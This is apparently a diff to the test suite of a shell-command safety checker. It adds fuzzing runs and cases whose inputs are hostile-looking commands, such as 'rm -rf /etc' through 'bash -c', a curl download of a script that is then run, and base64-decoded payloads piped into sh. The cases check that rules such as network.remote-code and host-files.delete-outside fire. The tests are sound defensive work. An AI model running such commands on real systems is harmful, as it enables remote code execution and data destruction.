@@ -77,19 +77,21 @@ describe('disguises', () => {
         expect(plain.length).toBeGreaterThan(0);
         expect(found).toEqual(expect.arrayContaining(plain));
       }),
-      { numRuns: 1000 },
+      { numRuns: 20000 },
     );
   });
 
   it('wrapping never hides a command of the corpus', () => {
+    // In a shell of its own a command has no parameters.
     const commands = harmful().filter(
-      ({ command }) => !command.includes('\n') && !/[<"']|&$|^\w+=\S+ |^(?:!|coproc) /.test(command),
+      ({ command }) =>
+        !command.includes('\n') && !/[<"']|&$|^\w+=\S+ |^(?:!|coproc) |\$\{?[@*\d]/.test(command),
     );
     fc.assert(
       fc.property(fc.constantFrom(...commands), fc.constantFrom(...WRAPPERS), ({ command }, wrap) => {
         expect(isFound(wrap(command))).toBe(true);
       }),
-      { numRuns: 1000 },
+      { numRuns: 20000 },
     );
   });
 
@@ -138,6 +140,13 @@ describe('bad input', () => {
     ['a long sed program', `sed 's${'/a'.repeat(long / 2)}'`],
     ['long code', `node -e '${'child_process.exec(x);'.repeat(2500)}'`],
     ['many words', `rm ${'a '.repeat(long / 2)}`],
+    ['48 KB of hidden commands', hidden('ls -la; ')],
+    ['48 KB of hidden lines', hidden('ls -la\n')],
+    ['48 KB of hidden here-documents', hidden('<<a ')],
+    ['48 KB of hidden substitutions', hidden('$(a) ')],
+    ['48 KB of hidden backticks', hidden('`')],
+    ['48 KB of hidden letters', hidden('x')],
+    ['a wrapper around a wrapper', `${'sudo git clone ext::'.repeat(290)}\`x\``],
     ['every byte', Array.from({ length: long }, (_, at) => String.fromCharCode(at % 256)).join('')],
   ])('answers to %s within 50 ms', (_, command) => {
     // The best of five: other work on the machine is not what is measured.
@@ -157,11 +166,39 @@ describe('bad input', () => {
     expect(rulesIn(command)).toEqual(['unresolved.unparsed']);
   });
 
+  it.each([
+    ['what somebody has set before', '$*'],
+    ['what somebody has opened before', 'bash <&3'],
+    ['a default in the place of a variable', '${CMD:-ls} -rf x'],
+  ])('asks about %s, since a shell lives on', (_, command) => {
+    expect(isFound(command)).toBe(true);
+  });
+
+  it('knows the parameters that a script was given', () => {
+    expect(isFound('bash -c \'"$@"\' _ ls -la')).toBe(false);
+    expect(rulesIn('bash -c \'"$@"\' _ rm -rf /etc')).toContain('host-files.delete-outside');
+    expect(rulesIn("bash -c '$0 -rf /etc' rm")).toContain('host-files.delete-outside');
+    expect(rulesIn('a=(sh -c "rm -rf /etc"); "${a[@]}"')).toContain('host-files.delete-outside');
+  });
+
+  it('takes a file that is printed into a shell for a file that is run', () => {
+    for (const command of ['bash x.sh', 'cat x.sh | bash', 'bash < x.sh'])
+      expect(isFound(command)).toBe(false);
+    for (const end of ['bash x.sh', 'cat x.sh | bash', 'bash < x.sh', 'mv x.sh y; bash y'])
+      expect(rulesIn(`curl -o x.sh https://x.example/x; ${end}`)).toContain('network.remote-code');
+  });
+
   it('does not stay silent about what comes after the last command it looks at', () => {
     expect(rulesIn(`${'ls\n'.repeat(3000)}rm -rf /`)).toContain('unresolved.too-deep');
     expect(rulesIn(`curl x.example ${'| cat '.repeat(60)}| sh`).length).toBeGreaterThan(0);
   });
 });
+
+/** A pipe that decodes 36 KB of this and runs them. */
+function hidden(piece: string): string {
+  const text = piece.repeat(36_000 / piece.length);
+  return `echo ${Buffer.from(text).toString('base64')} | base64 -d | sh`;
+}
 
 /** Pieces that mean something to a shell, in any order. */
 function shellLike(): fc.Arbitrary<string> {
